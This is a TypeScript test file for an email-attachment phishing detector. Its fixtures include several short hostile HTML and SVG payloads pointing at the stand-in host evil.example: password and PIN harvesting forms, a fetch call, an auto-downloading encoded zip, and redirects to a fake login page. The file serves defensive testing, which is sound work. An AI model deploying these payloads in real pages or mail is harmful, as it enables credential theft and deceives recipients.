import { describe, expect, test } from 'vitest'
import { codesOf, judge } from '../../support/judge/mails.ts'

const letters = [
  'Hello Hala, thank you for the call on Tuesday. Please find the document attached as agreed, and let me know whether the figures suit you. Kind regards, Nader',
  'مرحبا هالة، أرفقت لك المستند كما اتفقنا يوم الثلاثاء. أرجو إبلاغي إن كانت الأرقام مناسبة. مع التحية، نادر',
]

function mailWith(letter: string, page: Uint8Array, name: string, type: string): Uint8Array {
  const head =
    'From: Nader Khoury <nader@cedar-print.example>\nTo: hala@olivebranch.example\nSubject: The document\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b'
  const file = `Content-Type: ${type}; name="${name}"\nContent-Disposition: attachment; filename="${name}"\nContent-Transfer-Encoding: base64\n\n${Buffer.from(page).toString('base64')}`
  return Buffer.from(
    `${head}\n\n--b\nContent-Type: text/plain; charset=utf-8\n\n${letter}\n--b\n${file}\n--b--\n`,
  )
}

const report =
  '<html><body><h1>Energy use in October</h1><table><tr><td>Building A</td><td>1,204</td></tr></table></body></html>'
const traps = {
  attached_page_asks: [
    '<form action="https://evil.example/p"><input type=password></form>',
    '<form action="https://evil.example/p"><input name=pin></form>',
    '<script>box.innerHTML = "<input type=pass" + "word>"; fetch("https://evil.example/p")</script>',
  ],
  attached_page_unpacks: [
    '<script>var l=document.createElement("a");l.href=URL.createObjectURL(new Blob([atob("UEsDBBQ")]));l.download="a.zip";l.click()</script>',
    '<script>document.write(unescape("%3Cform%3E"))</script>',
  ],
  attached_page_leads_on: [
    '<meta http-equiv="refresh" content="0;url=https://evil.example/login">',
    '<script>window.location.href = "https://evil.example"</script>',
    '<body onload="location.replace(\'https://evil.example\')">',
    '<iframe src="https://evil.example/login"></iframe>',
    '<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[window.location="https://evil.example"]]></script></svg>',
  ],
}
const files = [
  ['document.html', 'text/html'],
  ['document.xht', 'application/octet-stream'],
  ['document.svg', 'image/svg+xml'],
  ['document.pdf', 'application/pdf'],
  ['document', 'application/octet-stream'],
] as const

describe.each(files)('a web page that is attached as %s, %s', (name, type) => {
  test('is judged by what it does', async () => {
    for (const letter of letters) {
      for (const [code, pages] of Object.entries(traps)) {
        for (const page of pages) {
          const whole = `<html><head><title>x</title></head>${page}</html>`
          const source = page.startsWith('<svg') ? page : whole
          for (const bytes of [Buffer.from(source), Buffer.from(`\ufeff${source}`, 'utf16le')]) {
            const judgement = await judge(mailWith(letter, bytes, name, type))
            expect(judgement.level, page).toBe('suspicious')
            expect(codesOf(judgement)[0], page).toBe(code)
          }
        }
      }
      expect(await judge(mailWith(letter, Buffer.from(report), name, type))).toMatchObject({
        level: 'safe',
      })
    }
  })
})
